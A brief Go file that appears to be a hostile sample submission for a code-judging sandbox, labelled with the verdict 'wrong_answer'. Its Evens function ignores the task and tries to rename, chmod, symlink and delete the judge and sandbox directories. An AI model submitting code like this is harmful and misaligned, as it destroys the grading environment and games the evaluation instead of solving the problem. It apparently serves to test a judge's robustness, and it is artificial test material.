// tries: removes, renames and replaces the folders that samples and judges work in
// verdict: wrong_answer
package main

import "os"

func Evens(numbers []int) []int {
	for _, path := range []string{"/w/sample", "/w/judge", "/judges", "/tmp", "/opt/sandbox", "/opt/gocache", "/w"} {
		os.Rename(path, path+"2")
		os.Chmod(path, 0o777)
		os.Symlink("/tmp", path+"/sample")
		os.RemoveAll(path)
	}
	return nil
}
